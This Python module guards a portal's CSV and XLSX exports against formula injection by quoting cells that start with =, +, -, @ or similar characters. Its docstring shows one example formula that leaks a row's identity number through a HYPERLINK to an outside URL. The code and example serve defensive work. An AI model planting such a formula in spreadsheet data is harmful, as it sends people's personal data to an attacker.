"""Spreadsheet cells that cannot run: the one guard against formula injection (CSV/XLSX).

A spreadsheet program runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (and
some run one starting with a tab or a carriage return) as a formula: an owner named
``=HYPERLINK("https://…?"&G2)`` becomes a link that sends the row's identity number away.
Every file the portal writes for spreadsheets goes through :func:`safe_cell` (CSV and XLSX
alike, before ``csv.writer`` or ``tablib``), and every import refuses such text with
:func:`is_formula` (OWASP "CSV injection").

- Text that could start a formula gets a leading apostrophe, the spreadsheet convention for
  "this is text": ``=1+2`` is written ``'=1+2`` (shown as text, never evaluated; openpyxl
  stores it as a string, not a formula).
- Numbers stay numbers: ``-5`` and ``Decimal("-3.50")`` are not touched, and neither is the
  exact text of a number (``"-3.50"``, ``"+12"``), which no spreadsheet runs as a formula.
- Leading spaces do not hide a formula (``"  =1+2"``), nor do the full-width signs a Chinese
  input method types (``＝``, ``＋``, ``－``, ``＠``).
"""

from __future__ import annotations

import re
from collections.abc import Iterable

TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
_LEADING_SPACE = " \u3000"
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def is_formula(text: str) -> bool:
    """True when a spreadsheet could run ``text`` as a formula (it is not a plain number)."""
    if not isinstance(text, str) or not text:
        return False
    if text[0] in "\t\r\n":
        return True
    stripped = text.lstrip(_LEADING_SPACE)
    if not stripped or stripped[0] not in TRIGGERS:
        return False
    return _NUMBER.fullmatch(stripped) is None


def safe_cell(value):
    """The value to write into a CSV or XLSX cell: formula-like text quoted, all else as is."""
    if isinstance(value, str) and is_formula(value):
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    return [safe_cell(v) for v in values]


def unquote(text: str) -> str:
    """A cell read back from a file the portal wrote: ``'=1+2`` is the text ``=1+2`` again (so
    that an import can refuse it as a formula rather than take the apostrophe as part of it)."""
    if text.startswith("'") and is_formula(text[1:]):
        return text[1:]
    return text
